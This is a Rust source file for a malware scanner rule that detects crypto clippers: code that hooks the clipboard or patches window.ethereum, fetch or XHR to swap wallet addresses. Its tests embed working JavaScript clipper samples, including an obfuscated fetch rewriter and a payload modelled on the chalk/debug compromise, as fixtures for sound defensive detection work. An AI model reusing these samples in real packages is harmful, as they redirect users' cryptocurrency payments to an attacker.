//! `code/crypto-clipper`.

use super::{chain, finding};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Wallet-address regexes combined with clipboard hooks or wallet-provider patching: a crypto clipper.
    ///
    /// ## What it detects
    /// Two or more cryptocurrency address patterns (regex literals or `new RegExp` strings for Ethereum, Bitcoin
    /// legacy/bech32, Tron) or hard-coded wallet addresses, in a file that hooks `copy`/`paste`, writes the
    /// clipboard, or patches `window.ethereum`, `fetch` or `XMLHttpRequest`; or a hard-coded wallet address in a
    /// file that patches the wallet provider or the network APIs (a transaction or response rewriter).
    ///
    /// ## Why it matters
    /// Clippers swap the address a user copies for the attacker's; the September 2025 chalk/debug compromise shipped
    /// exactly such a browser payload to millions of installs.
    ///
    /// ## Example
    /// `document.addEventListener('copy', e => e.clipboardData.setData('text/plain', t.replace(/0x[a-fA-F0-9]{40}/g, mine)))`
    ///
    /// ## Known false positives
    /// Wallet UIs validate addresses with these regexes; they do not also rewrite the clipboard. Address
    /// validators without clipboard access are not reported. In a bundle (512 KiB or more: a wallet kit's UMD
    /// build with a "copy URI" button in one module and address validators in another) the hook and an address
    /// pattern must share a function. The clipboard API alone (a "copy address" button, a read-back check)
    /// counts only with a hard-coded address or a network call in the file: a clipper needs the attacker's
    /// addresses from somewhere.
    pub static CRYPTO_CLIPPER = { id: "code/crypto-clipper", severity: Severity::Critical };
}

/// One finding per file with wallet shapes and a clipboard or provider hook.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = Vec::new();
    for f in &p.files {
        let regexes = f.of(Kind::WalletRegex).count();
        let addresses = f.of(Kind::WalletAddress).count();
        let hook = f
            .signals
            .iter()
            .find(|s| matches!(s.kind, Kind::ClipboardHook | Kind::MonkeyPatch));
        let Some(h) = hook else { continue };
        // A bundle (a wallet kit's UMD build) holds address validators in one module and a
        // "copy URI" button in another: there the hook must share a function with a pattern.
        if super::is_bundle(f)
            && !f.signals.iter().any(|x| {
                matches!(x.kind, Kind::WalletRegex | Kind::WalletAddress)
                    && x.func != 0
                    && f.signals.iter().any(|y| {
                        matches!(y.kind, Kind::ClipboardHook | Kind::MonkeyPatch)
                            && y.func == x.func
                    })
            })
        {
            continue;
        }
        // Address patterns to find the victim's addresses, or a hard-coded address written
        // into traffic the file intercepts (`window.ethereum.request`, `fetch` wrappers).
        // The clipboard API alone (`navigator.clipboard.writeText`/`readText`: a "copy address"
        // button, a read-back check) swaps nothing by itself: a clipper needs the attacker's
        // addresses, hard-coded or fetched. `copy`/`cut`/`paste` listeners and
        // `execCommand('copy')` stay enough with the patterns.
        let api_only = !f.signals.iter().any(|x| {
            x.kind == Kind::ClipboardHook
                && !(x.detail.ends_with(".writeText") || x.detail.ends_with(".readText"))
        });
        let nothing_to_swap_in = api_only
            && !f.has(Kind::MonkeyPatch)
            && addresses == 0
            && !f.has(Kind::Network)
            && !f.has(Kind::BrowserSend);
        // Address patterns to find the victim's addresses, or a hard-coded address written
        // into traffic the file intercepts (`window.ethereum.request`, `fetch` wrappers).
        let patterns = regexes >= 1 && regexes + addresses.min(2) >= 2 && !nothing_to_swap_in;
        let swap_in_traffic = addresses >= 1 && f.has(Kind::MonkeyPatch);
        if !patterns && !swap_in_traffic {
            continue;
        }
        let Some(s) = f
            .of(Kind::WalletRegex)
            .next()
            .or_else(|| f.of(Kind::WalletAddress).next())
        else {
            continue;
        };
        let msg = format!(
            "{regexes} wallet-address patterns and {addresses} hard-coded addresses with a {} ",
            h.kind.as_str()
        );
        let loc = if h.func == s.func {
            Locality::Function
        } else {
            Locality::File
        };
        out.push(finding(
            &CRYPTO_CLIPPER,
            CRYPTO_CLIPPER.default_severity,
            f,
            s,
            loc,
            msg.trim_end().to_string(),
            chain(
                p,
                f,
                s,
                &[Kind::ClipboardHook, Kind::WalletAddress, Kind::MonkeyPatch],
            ),
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "c.js",
                "var r=[/\\b0x[a-fA-F0-9]{40}\\b/g,/\\bbc1[a-z0-9]{38,58}\\b/g];\ndocument.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','x')});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/crypto-clipper"),
            vec![("c.js".to_string(), 1)]
        );
    }

    /// A provider hook that rewrites the recipient of every transaction.
    #[test]
    fn positive_provider_hook_with_a_hard_coded_address() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "w.js",
                "const MINE = '0x9a8b7c6d5e4f30211203948576afbecd12345678';\nconst eth = window.ethereum;\nconst orig = eth.request.bind(eth);\nwindow.ethereum = new Proxy(eth, { get(t, k) { if (k !== 'request') return t[k]; return async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = MINE; return orig(a); }; } });\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/crypto-clipper"),
            vec![("w.js".to_string(), 1)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A response rewriter: `fetch` replaced through an alias and a computed name, wallet
    /// addresses in every JSON/text answer swapped for hard-coded ones.
    #[test]
    fn positive_response_rewriter_through_a_computed_name() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "browser.js",
                "(function () {\n  var w = typeof window !== 'undefined' ? window : void 0;\n  var E = ['0x492894e97566add9bc7cc7aa442de322f5ef6932', '0x9e4b79baf9cb6200ee58ded0af6a8b5bd329db4c'];\n  var R = /\\b0x[a-fA-F0-9]{40}\\b/g;\n  var F = w['fe' + 'tch'];\n  w['fe' + 'tch'] = function () {\n    return F.apply(this, arguments).then(function (r) { return r.clone().text().then(function (t) { return new Response(t.replace(R, function () { return E[0]; }), r); }); });\n  };\n})();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/crypto-clipper"),
            vec![("browser.js".to_string(), 4)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// An EIP-1193 connector calls the provider and validates addresses; it patches nothing.
    #[test]
    fn negative_eip1193_connector() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "connect.js",
                "const isAddress = (a) => new RegExp('^0x[a-fA-F0-9]{40}$').test(a);\nexport async function connect() {\n  const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });\n  if (!isAddress(account)) throw new Error('bad account');\n  window.ethereum.on('accountsChanged', (a) => console.log(a));\n  return account;\n}\n",
            ),
        ]);
        assert!(hits(&s, "code/crypto-clipper").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A wallet kit's UMD bundle: address validators in one module, a "copy link" button in
    /// another.
    #[test]
    fn negative_bundle_validator_and_copy_button_apart() {
        let mut bundle = String::from(
            "function isEth(s) { return /^0x[a-fA-F0-9]{40}$/.test(s); }\nfunction isBtc(s) { return /^bc1[a-z0-9]{38,58}$/.test(s); }\n",
        );
        while bundle.len() < crate::rules::BUNDLE_BYTES {
            bundle.push_str("var pad = String(1).padStart(2, '0');\n");
        }
        bundle.push_str("function copyUri(u) { return navigator.clipboard.writeText(u); }\n");
        let s = scan(&[("package.json", PJ), ("dist/index.umd.js", &bundle)]);
        assert!(hits(&s, "code/crypto-clipper").is_empty());
    }

    /// A wallet UI helper: address patterns, a "copy address" button that reads the clipboard
    /// back to check it, an EIP-1193 account request; no attacker address, nothing fetched.
    #[test]
    fn negative_copy_button_with_read_back() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.mjs",
                "export const PATTERNS = { evm: /^0x[a-fA-F0-9]{40}$/, btc: /^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/ };\nexport const detect = (a) => Object.values(PATTERNS).some((r) => r.test(a));\nexport async function copyAddress(addr) {\n  if (!detect(addr)) throw new TypeError('not a wallet address');\n  await navigator.clipboard.writeText(addr);\n  const back = await navigator.clipboard.readText();\n  return back === addr;\n}\n",
            ),
        ]);
        assert!(hits(&s, "code/crypto-clipper").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    #[test]
    fn negative_validator() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "v.js",
                "exports.isEth = s => /^0x[a-fA-F0-9]{40}$/.test(s);\nexports.isBtc = s => /^bc1[a-z0-9]{38,58}$/.test(s);\n",
            ),
        ]);
        assert!(hits(&s, "code/crypto-clipper").is_empty());
    }

    /// The September 2025 chalk/debug payload shape: globals reached as `G[K]` with `G` the
    /// `globalThis`-or-`window`-or-`{}` feature test and names joined from parts, attacker
    /// addresses built with `repeat`; `fetch`, XHR `open` and the provider's `request` replaced.
    #[test]
    fn positive_hooks_through_joined_global_names() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/index.umd.js",
                "(function () {\n  var G = typeof globalThis !== 'undefined' ? globalThis : typeof window !== 'undefined' ? window : {};\n  var K = ['fet', 'ch'].join(''), X = ['XMLHttp', 'Request'].join(''), E = ['eth', 'ereum'].join('');\n  var A = '0x' + 'Fa11' + '0'.repeat(36);\n  var R = [/\\b0x[a-fA-F0-9]{40}\\b/g, /\\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,59}\\b/g];\n  function swap(t) { return t.replace(R[0], A); }\n  if (G[K] && G.document) {\n    var of = G[K];\n    G[K] = function () { return of.apply(this, arguments).then(function (r) { return r.text().then(function (t) { return new Response(swap(t)); }); }); };\n    var xp = G[X] && G[X].prototype, oo = xp && xp.open;\n    if (oo) xp.open = function () { return oo.apply(this, arguments); };\n    var w = G[E];\n    if (w) { var rq = w.request; w.request = function (a) { a.params[0].to = A; return rq.call(this, a); }; }\n  }\n})();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/crypto-clipper"),
            vec![("dist/index.umd.js".to_string(), 5)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A wallet helper reaches the provider through the same feature test and joined names,
    /// but only asks for accounts and validates them: nothing is replaced.
    #[test]
    fn negative_provider_reached_through_joined_names() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "var G = typeof globalThis !== 'undefined' ? globalThis : typeof window !== 'undefined' ? window : {};\nvar E = ['eth', 'ereum'].join('');\nexports.isAddress = function (a) { return /^0x[a-fA-F0-9]{40}$/.test(a) || /^bc1[a-z0-9]{38,58}$/.test(a); };\nexports.connect = function () { return G[E].request({ method: 'eth_requestAccounts' }); };\n",
            ),
        ]);
        assert!(hits(&s, "code/crypto-clipper").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }
}
